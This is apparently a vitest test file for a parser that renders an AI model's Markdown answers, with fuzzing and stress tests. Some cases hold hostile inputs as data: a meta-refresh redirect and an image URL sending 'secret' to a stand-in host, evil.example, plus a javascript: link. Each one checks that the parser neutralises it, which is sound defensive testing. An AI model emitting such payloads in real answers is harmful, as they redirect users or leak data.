import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseMarkdown } from '../../../../src/core/answer/markdown.ts'
import { splitSettled } from '../../../../src/core/answer/markdown-chunks.ts'
import { markdownLimits } from '../../../../src/core/answer/markdown-limits.ts'
import type { Block, Inline } from '../../../../src/core/answer/markdown-tree.ts'
import { answers } from './markdown-samples.ts'

const text = (value: string): Inline => ({ type: 'text', text: value })
const paragraph = (...children: Inline[]): Block => ({ type: 'paragraph', children })

describe('an answer in Markdown', () => {
  const cases: { why: string; markdown: string; blocks: Block[] }[] = [
    { why: 'plain words', markdown: 'Hello', blocks: [paragraph(text('Hello'))] },
    {
      why: 'emphasis and code',
      markdown: '**a** *b* ~~c~~ `d`',
      blocks: [
        paragraph(
          { type: 'strong', children: [text('a')] },
          text(' '),
          { type: 'emphasis', children: [text('b')] },
          text(' '),
          { type: 'deleted', children: [text('c')] },
          text(' '),
          { type: 'code', text: 'd' },
        ),
      ],
    },
    {
      why: 'bold that ends in Chinese punctuation, without a space behind it',
      markdown: '**尺寸：**960 像素，**“湖”**在山间。',
      blocks: [
        paragraph(
          { type: 'strong', children: [text('尺寸：')] },
          text('960 像素，'),
          { type: 'strong', children: [text('“湖”')] },
          text('在山间。'),
        ),
      ],
    },
    {
      why: 'a numbered list keeps its first number',
      markdown: '3. a\n4. b',
      blocks: [
        { type: 'list', start: 3, loose: false, items: [[paragraph(text('a'))], [paragraph(text('b'))]] },
      ],
    },
    {
      why: 'HTML is shown, not parsed',
      markdown: '<b>x</b>',
      blocks: [paragraph(text('<b>'), text('x'), text('</b>'))],
    },
    {
      why: 'a block of HTML too',
      markdown: '<meta http-equiv=refresh content="0;url=https://evil.example">',
      blocks: [{ type: 'plain', text: '<meta http-equiv=refresh content="0;url=https://evil.example">' }],
    },
    {
      why: 'an image is named, never loaded',
      markdown: '![a cat](https://evil.example/?d=secret)',
      blocks: [paragraph({ type: 'image', alternativeText: 'a cat', host: 'evil.example' })],
    },
    {
      why: 'a script link is shown as it was written',
      markdown: '[x](javascript:alert(1))',
      blocks: [paragraph(text('[x](javascript:alert(1))'))],
    },
    {
      why: 'a reference finds its definition, which stays readable',
      markdown: '[x][1]\n\n[1]: https://a.example/b',
      blocks: [
        paragraph({
          type: 'link',
          href: 'https://a.example/b',
          host: 'a.example',
          long: false,
          children: [text('x')],
        }),
        { type: 'plain', text: '[1]: https://a.example/b' },
      ],
    },
    {
      why: 'an unclosed fence is code already',
      markdown: '```js\nlet a',
      blocks: [{ type: 'code', language: 'js', text: 'let a' }],
    },
    {
      why: 'a table in an item has the cells that it has, and no more',
      markdown: '1. |a|b|\n   |-|-|\n   |c|d|',
      blocks: [
        {
          type: 'list',
          start: 1,
          loose: false,
          items: [
            [
              {
                type: 'table',
                align: [null, null],
                header: [[text('a')], [text('b')]],
                rows: [[[text('c')], [text('d')]]],
              },
            ],
          ],
        },
      ],
    },
    {
      why: 'a table',
      markdown: '|a|b|\n|:-|-:|\n|1|2|',
      blocks: [
        {
          type: 'table',
          align: ['left', 'right'],
          header: [[text('a')], [text('b')]],
          rows: [[[text('1')], [text('2')]]],
        },
      ],
    },
  ]
  it.each(cases)('$why', ({ markdown, blocks }) => {
    expect(parseMarkdown(markdown)).toEqual(blocks)
  })

  it('a huge table is cut, and the rest is still there as text', () => {
    const blocks = parseMarkdown(`|a|b|\n|-|-|\n${'|1|2|\n'.repeat(1500)}`)
    expect(blocks.map((block) => block.type)).toEqual(['table', 'plain'])
    const [table, plain] = blocks
    const rows = table?.type === 'table' ? table.rows.length : 0
    expect(rows).toBeLessThanOrEqual(markdownLimits.tableCells / 2)
    expect(plain?.type === 'plain' && plain.text.split('\n').filter(Boolean)).toHaveLength(1500 - rows)
  })
})

const allowed = {
  blocks: ['paragraph', 'heading', 'list', 'quote', 'code', 'table', 'rule', 'plain', 'formula', 'note'],
  inlines: [
    'text',
    'code',
    'break',
    'strong',
    'emphasis',
    'deleted',
    'link',
    'image',
    'formula',
    'note',
    'task',
  ],
}

function checkInline(node: Inline, depth: number): void {
  expect(allowed.inlines).toContain(node.type)
  expect(depth).toBeLessThan(40)
  if (node.type === 'link') expect(node.href).toMatch(/^https?:\/\//)
  if ('children' in node) for (const child of node.children) checkInline(child, depth + 1)
}

function checkBlock(block: Block, depth = 0): void {
  expect(allowed.blocks).toContain(block.type)
  expect(depth).toBeLessThan(40)
  if (block.type === 'list') for (const child of block.items.flat()) checkBlock(child, depth + 1)
  if (block.type === 'quote' || block.type === 'note')
    for (const child of block.children) checkBlock(child, depth + 1)
  if (block.type === 'paragraph' || block.type === 'heading')
    for (const child of block.children) checkInline(child, depth + 1)
  if (block.type === 'table')
    for (const cell of [block.header, ...block.rows].flat()) for (const child of cell) checkInline(child, 0)
}

describe('whatever a model writes', () => {
  // By hand: FUZZ_RUNS=10000 npm run test:unit -- markdown
  it('gives only allowed nodes and no link but http(s)', () => {
    fc.assert(
      fc.property(answers, (answer) => {
        for (const block of parseMarkdown(answer)) checkBlock(block)
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 500) },
    )
  })

  const heavy: [string, string][] = [
    ['quotes in quotes', '>'.repeat(200_000)],
    ['lists in lists', '- '.repeat(100_000)],
    ['open brackets', '[a]('.repeat(50_000)],
    ['unclosed emphasis', '*a **b '.repeat(30_000)],
    ['tildes', '~~a~~~b'.repeat(30_000)],
    ['cells', `${'|'.repeat(50_000)}\n${'|-'.repeat(50_000)}\n`],
    ['rows', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(30_000)}`],
    ['short lines', 'a\n'.repeat(100_000)],
    ['open fences', '```\n'.repeat(50_001)],
  ]
  it.each(heavy)(
    'stays quick with 200 kB of %s',
    (_, answer) => {
      const { settled, rest } = splitSettled(answer)
      for (const chunk of [...settled.slice(0, 500), rest])
        for (const block of parseMarkdown(chunk)) checkBlock(block)
    },
    5000,
  )
})
